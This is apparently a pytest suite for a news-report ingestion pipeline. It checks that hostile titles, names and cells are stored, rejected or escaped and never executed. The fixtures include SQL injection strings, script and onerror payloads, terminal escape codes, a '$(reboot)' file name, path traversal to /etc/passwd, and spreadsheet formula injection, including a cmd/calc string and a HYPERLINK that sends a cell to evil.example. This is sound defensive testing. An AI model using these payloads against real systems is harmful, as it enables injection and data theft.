"""Reports, names and titles made to do harm are read or refused like others, and shown without acting."""

import io
import json
import os
import re
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb
import polars as pl
import pytest

from flows.render import Format, console, error_console, table_of, write_frame
from tasks.display import visible
from tasks.paths import DataFolder
from tests.conftest import RunFlow

TITLES = {
    "markup": "[red]Flood[/red] [/nope] [link=https://evil.example]here[/link] \\",
    "escape codes": "\x1b[31mFlood\x1b[0m \x1b]0;owned\x07 \x9b2J",
    "direction": "\u202eegnahc\u202c \u2066x\u2069 \u200fy",
    "SQL": "'); DROP TABLE ledger.documents; --",
    "SQL quoted": "\"; DELETE FROM quality.runs; /* ' */",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Flood")',
    "script": "<script>alert('owned')</script><img src=x onerror=alert(1)>",
    "braces": "{{7*7}} ${HOME} %s %(x)s {0}",
    "emoji code": ":warning: Flood",
    "path": "../../../etc/passwd",
}
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def body(number: int) -> str:
    return (
        f"The river rose {number + 2} metres on Monday, the town's mayor said. It cost $4 million to repair."
    )


def record(number: int, name: str, **more: object) -> str:
    title = TITLES[name]
    fields = {
        "id": f"{title} {number}",
        "outlet": title,
        "title": title,
        "byline": title,
        "text": body(number),
    }
    return json.dumps({**fields, "published_on": "2027-05-03", **more})


def hostile_folder(folder: Path) -> list[str]:
    """Fill a folder; return the names of its files that are good reports."""
    folder.mkdir()
    lines = [record(number, name) for number, name in enumerate(TITLES)]
    lines += [
        '{"text": "' + "1" * 10_000 + ' people came.", "id": "digits"}',
        '{"text": "' + body(50) + '", "id": ' + "7" * 10_000 + "}",
        '{"text": "' + body(51) + '", "id": "nan", "title": NaN, "byline": -Infinity}',
        '{"text": "' + body(52) + '", "id": "dates", "published_at": "0000-00-00"}',
        '{"text": "' + body(53) + '", "id": "far", "published_at": "9999-12-31T23:59:59-14:00"}',
        '{"text": "' + body(54) + '", "id": "number", "published_on": 20270503}',
        '{"text": "' + body(55) + '", "id": "huge", "published_on": 1e400}',
        '{"text": true, "id": "bool"}',
        '{"text": "' + body(56) + '", "text": "' + body(57) + '", "id": "twice"}',
        '{"text": "half \\ud83d", "id": "half"}',
        '{"text": "nul \\u0000", "id": "nul"}',
        '{"text": ' + "[" * 100_000 + "]" * 100_000 + ', "id": "deep"}',
        '{"text": "' + body(58) + '", "id": "nested", "more": ' + "[" * 300 + "]" * 300 + "}",
    ]
    (folder / "wire.jsonl").write_text("\n".join(lines), encoding="utf-8")
    names = [
        "new\nline.txt",
        "quo'te\".txt",
        "$(reboot);.txt",
        "\x1b[31mred.txt",
        "[bold].txt",
        "-rf.txt",
        "=1+1.txt",
    ]
    for number, name in enumerate(names):
        (folder / name).write_text(body(60 + number))
    Path(os.fsdecode(os.fsencode(folder) + b"/caf\xe9 \xff.txt")).write_text(body(70))
    (folder / "empty.txt").write_text("")
    return names


@pytest.fixture
def ledger(run_flow: RunFlow, tmp_path: Path) -> Any:
    hostile_folder(tmp_path / "source")
    return run_flow(tmp_path / "source", data=tmp_path / "data")


def test_what_is_made_to_do_harm_is_read_stored_and_shown_as_text(
    ledger: Any,
    tmp_path: Path,
    published: Callable[[str], list[tuple[Any, ...]]],
    capsys: pytest.CaptureFixture[str],
) -> None:
    from flows.explain import explain_row
    from flows.status import print_status
    from flows.summary import print_summary

    data = DataFolder(tmp_path / "data")
    # Stored as it came, with the white space of a headline.
    stored = {title for (title,) in published("SELECT title FROM ledger.documents")}
    assert {" ".join(title.split()) for title in TITLES.values()} <= stored
    outlets = {outlet for (outlet,) in published("SELECT outlet FROM ledger.documents")}
    assert {" ".join(title.split()) for title in TITLES.values()} <= outlets
    uris = {uri for (uri,) in published("SELECT source_uri FROM ledger.documents")}
    assert {"new\nline.txt", "quo'te\".txt", "caf\\xe9 \\xff.txt", "nan", "digits", "nested"} - {
        "nested"
    } <= uris

    refused = dict(
        published("SELECT source_uri, reason FROM ledger.dispositions WHERE disposition = 'rejected'")
    )
    assert {uri.rpartition("#")[2] for uri in refused} >= {"bool", "half", "nul", "empty.txt"}
    assert (
        sorted(reason.split(".")[0] for reason in refused.values() if "nested" in reason or "times" in reason)
        != []
    )
    for reason in refused.values():
        assert re.fullmatch(r"[A-Z].*[.)]", reason, re.DOTALL), reason

    days = dict(published("SELECT source_uri, published_on FROM ledger.documents"))
    assert (days["dates"], days["huge"], str(days["number"])) == (None, None, "2027-05-03")

    figures = published(
        "SELECT figure_id, title FROM ledger.figures JOIN ledger.documents USING (document_id) WHERE unit = 'USD'"
    )
    capsys.readouterr()
    for figure_id, title in figures:
        assert explain_row(data, figure_id)
        shown = capsys.readouterr().out
        assert not ACTING.search(shown)
        if title == " ".join(TITLES["markup"].split()):
            assert "[red]Flood[/red] [/nope]" in " ".join(shown.split())
        if title == TITLES["emoji code"]:
            assert ":warning:" in shown
    print_status(data)
    print_summary(data, ledger)
    shown = capsys.readouterr().out
    assert not ACTING.search(shown)
    assert "\\x1b[31mred.txt" in shown or "empty.txt" in shown

    pages = [page.read_text() for page in data.docs.rglob("*.html")]
    assert pages
    assert not any("<script" in page.lower() or "<img" in page.lower() for page in pages)


@pytest.mark.parametrize("text", [*TITLES.values(), "[/x]", "a\x00b", "\ud800", "C1 \x85"])
def test_a_table_on_the_screen_shows_any_text_and_any_column_name(
    capsys: pytest.CaptureFixture[str], text: str
) -> None:
    text = visible(text) if "\ud800" in text else text
    console.print(table_of(pl.DataFrame({text: [text]})))
    shown = capsys.readouterr().out
    assert not ACTING.search(shown)
    assert shown.strip()


def test_a_message_about_any_text_is_shown(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from flows import cli

    for text in ("[/x]", "\x1b[31m", "[red]"):
        monkeypatch.setattr(sys, "argv", ["wireledger", "run", "--published-on", text])
        assert cli._run_app() == cli.WRONG_USAGE
        shown = capsys.readouterr().err
        assert visible(text) in shown
        assert not ACTING.search(shown)
    assert error_console.is_terminal is False


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+HYPERLINK(A1)", "'-2+HYPERLINK(A1)"),
        ("-5 percent", "-5 percent"),
        ("+3.2%", "+3.2%"),
        ("−5", "−5"),
        ("€800 billion ($843 billion)", "€800 billion ($843 billion)"),
        ("a=1", "a=1"),
    ],
)
def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path, cell: str, written: str) -> None:
    frame = pl.DataFrame({"text": [cell], "value": [-5.0]})
    write_frame(frame, Format.CSV, tmp_path / "out.csv")
    rows = pl.read_csv(tmp_path / "out.csv", infer_schema=False).rows()
    assert rows == [(written, "-5.0")]
    write_frame(frame, Format.JSON, tmp_path / "out.json")
    assert json.loads((tmp_path / "out.json").read_text())[0]["text"] == cell


def test_csv_on_a_terminal_does_not_act(monkeypatch: pytest.MonkeyPatch) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    terminal = Terminal()
    monkeypatch.setattr(sys, "stdout", terminal)
    write_frame(pl.DataFrame({"title": list(TITLES.values())}), Format.CSV, None)
    assert not ACTING.search(terminal.getvalue())


def test_every_name_is_a_parameter(tmp_path: Path, warehouse: duckdb.DuckDBPyConnection) -> None:
    """The tables are all there after names that would drop them."""
    from tasks.contracts import InputRecord
    from tasks.normalize.known import known_dispositions

    hostile = InputRecord(0, TITLES["SQL"], "text/plain", None, title=TITLES["SQL quoted"])
    assert known_dispositions(warehouse, [(hostile, TITLES["SQL"])]) == {}
    assert warehouse.execute("SELECT count(*) FROM ledger.documents").fetchall() == [(0,)]
